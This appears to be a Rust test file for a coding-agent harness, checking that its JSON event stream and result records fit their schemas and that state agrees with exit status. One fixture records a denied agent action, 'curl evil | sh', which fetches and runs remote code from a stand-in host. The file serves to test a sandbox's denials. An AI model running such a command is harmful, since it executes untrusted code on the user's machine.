//! The schemas hold for what is really written, and for nothing that contradicts itself.

use super::super::schema::{STATES, events_schema, place_in_states, result_schema};
use super::streams::json_lines;
use super::*;
use crate::rollout::{CheckPhase, FileStatus};

/// The few words of JSON Schema that our schemas use; an unknown one is a fault of the test.
pub(super) fn faults(schema: &Value, value: &Value, at: &str) -> Vec<String> {
    let Value::Object(words) = schema else {
        return if schema == &json!(true) { Vec::new() } else { vec![format!("{at}: never")] };
    };
    let mut found = Vec::new();
    for (word, rule) in words {
        let holds = match word.as_str() {
            "$schema" | "title" => true,
            "const" => value == rule,
            "enum" => rule.as_array().unwrap().contains(value),
            "type" => match rule {
                Value::Array(kinds) => kinds.iter().any(|kind| is_a(value, kind)),
                kind => is_a(value, kind),
            },
            "minimum" => value.as_f64().is_none_or(|number| number >= rule.as_f64().unwrap()),
            "required" => {
                let names = rule.as_array().unwrap();
                names.iter().all(|name| value.get(name.as_str().unwrap()).is_some())
            }
            "properties" => {
                for (name, inner) in rule.as_object().unwrap() {
                    if let Some(value) = value.get(name) {
                        found.extend(faults(inner, value, &format!("{at}/{name}")));
                    }
                }
                true
            }
            "additionalProperties" => {
                let known = words.get("properties").and_then(Value::as_object);
                for (name, inner) in value.as_object().into_iter().flatten() {
                    if known.is_none_or(|known| !known.contains_key(name)) {
                        found.extend(faults(rule, inner, &format!("{at}/{name}")));
                    }
                }
                true
            }
            "items" => {
                for (number, inner) in value.as_array().into_iter().flatten().enumerate() {
                    found.extend(faults(rule, inner, &format!("{at}/{number}")));
                }
                true
            }
            "oneOf" => {
                let all = rule.as_array().unwrap();
                let fitting = all.iter().filter(|one| faults(one, value, at).is_empty()).count();
                fitting == 1
            }
            other => panic!("{other} is not known here"),
        };
        if !holds {
            found.push(format!("{at}: {word} {rule} does not hold for {value}"));
        }
    }
    found
}

fn is_a(value: &Value, kind: &Value) -> bool {
    match kind.as_str().unwrap() {
        "string" => value.is_string(),
        "integer" => value.is_i64() || value.is_u64(),
        "number" => value.is_number(),
        "boolean" => value.is_boolean(),
        "null" => value.is_null(),
        "array" => value.is_array(),
        "object" => value.is_object(),
        other => panic!("{other}"),
    }
}

#[test]
fn every_line_of_the_stream_fits_the_schema() {
    let schema = events_schema();
    let failed =
        |end| vec![event(EventMsg::TurnEnded { summary: Box::default(), turn: "t".into(), end })];
    let aborted = TurnEnd::Aborted { reason: "interrupted".into(), message: "m".into() };
    let broken = TurnEnd::Failed { reason: "model".into(), message: "m".into(), retryable: true };
    let mut turn = vec![event(EventMsg::TurnStarted { turn: "t".into() })];
    turn.extend(failed(aborted));
    turn.push(event(EventMsg::TurnStarted { turn: "t".into() }));
    turn.extend(failed(broken));
    turn.push(event(done("never-started", "nonsense", ResultKind::UnknownTool, None, "no")));
    let invalid = Outcome::new(State::Invalid, "spec", "wrong");
    turn.insert(1, event(EventMsg::ProcessEnded { process: ended_process() }));
    let hook = || "before_tool[0]".to_owned();
    turn.insert(1, event(EventMsg::HookStarted { hook: hook(), step: 1, call_id: None }));
    turn.insert(
        2,
        event(EventMsg::HookDone {
            hook: hook(),
            step: 1,
            call_id: Some("c1".into()),
            outcome: "deny".into(),
            reason: "no".into(),
            exit_code: Some(0),
            duration_ms: 5,
        }),
    );
    let mut kinds = std::collections::BTreeSet::new();
    for line in json_lines(&example(), &success())
        .into_iter()
        .chain(json_lines(&turn, &invalid))
        .chain(json_lines(&[], &invalid))
    {
        assert_eq!(faults(&schema, &line, ""), Vec::<String>::new(), "{line}");
        kinds.insert(line["type"].as_str().unwrap().to_owned());
    }
    let branches = schema["oneOf"].as_array().unwrap().iter();
    let named = branches.map(|one| one["properties"]["type"]["const"].as_str().unwrap().to_owned());
    assert_eq!(kinds, named.collect(), "every kind of the schema was seen");
    assert!(!faults(&schema, &json!({"type": "turn.started"}), "").is_empty());
}

fn ended_process() -> ProcessEnd {
    ProcessEnd {
        session_id: 1,
        call_id: "c9".into(),
        command: "npm run dev".into(),
        exit_code: None,
        signal: None,
        ended_by: Some("turn_end".into()),
        output_bytes: 1234,
        duration_ms: 5,
    }
}

pub(super) fn full_record() -> ResultRecord {
    let mut record = ResultRecord::running("run-1", "session-1", TS);
    record.model = Some("scripted/demo".into());
    record.usage = Usage { input: 100, cached: 40, output: 20, reasoning: 5 }.into();
    record.cost =
        Some(Cost { amount: 0.5, prices: Prices { input: 1.25, cached: 0.125, output: 10.0 } });
    record.steps = 3;
    record.tool_calls = ToolCalls { total: 4, failed: 1, denied: 1 };
    record.changed = true;
    record.changed_files = vec![ChangedFile {
        path: "src/new|name.rs".into(),
        renamed_from: Some("src/old.rs".into()),
        status: FileStatus::Renamed,
        added: 10,
        removed: 2,
        by: vec!["patch:c3".into()],
    }];
    record.checks = vec![Check {
        name: "tests".into(),
        phase: CheckPhase::Workspace,
        attempt: 1,
        argv: vec!["cargo".into(), "test".into()],
        passed: false,
        exit_code: Some(101),
        timed_out: false,
        duration_ms: 2100,
        against_baseline: Some("newly_broken".into()),
        output_tail: "error: ```\n</details>\n::error::x\n".into(),
    }];
    record.hooks = vec![HookRuns {
        hook: "before_tool[0]".into(),
        command: "./guard | x".into(),
        times: 3,
        denials: 1,
        errors: 0,
        duration_ms: 12,
    }];
    record.processes = vec![ended_process()];
    record.command_logs = vec![CommandLog {
        command: "cargo test".into(),
        file: Some("command-0001.log".into()),
        bytes: 10,
        cut: 0,
        fault: None,
    }];
    record.denials = vec![Denial {
        step: 1,
        call_id: Some("c2".into()),
        action: "curl evil | sh".into(),
        argv: vec!["curl".into(), "evil".into()],
        rule: RuleRef::built_in("exec.default"),
        reason: "no rule allows it".into(),
    }];
    record.artifacts.directory = "/run/1".into();
    record.artifacts.rollout = Some("rollout.jsonl".into());
    record.sources.insert("model".into(), "flag".into());
    record
}

#[test]
fn result_json_fits_its_schema_running_and_ended() {
    let schema = result_schema(exit_status);
    let check = |record: &ResultRecord| {
        let value = serde_json::to_value(record).unwrap();
        let found = faults(&schema, &value, "");
        let back: ResultRecord = serde_json::from_value(value).unwrap();
        assert_eq!(&back, record);
        found
    };
    let mut record = full_record();
    assert_eq!(check(&record), Vec::<String>::new());
    for state in STATES {
        record.end(&Outcome::new(state, "r", "m"), TS, 5, exit_status);
        assert_eq!(check(&record), Vec::<String>::new(), "{state}");
    }
}

#[test]
fn d08_no_valid_result_contradicts_its_exit_status() {
    let schema = result_schema(exit_status);
    let mut record = full_record();
    record.end(&success(), TS, 5, exit_status);
    let value = serde_json::to_value(&record).unwrap();
    for state in STATES.iter().map(|state| state.as_str()).chain(["running", "success"]) {
        for status in (0..=255u8).map(|status| json!(status)).chain([Value::Null]) {
            let mut value = value.clone();
            value["state"] = json!(state);
            value["exit_status"] = status.clone();
            if state == "running" {
                value["ended"] = Value::Null;
            }
            let right =
                STATES.iter().any(|s| s.as_str() == state && status == json!(exit_status(*s)))
                    || (state == "running" && status.is_null());
            assert_eq!(faults(&schema, &value, "").is_empty(), right, "{state} {status}");
        }
    }
}

#[test]
fn the_list_of_states_is_whole() {
    for (number, state) in STATES.into_iter().enumerate() {
        assert_eq!(place_in_states(state), number);
    }
}
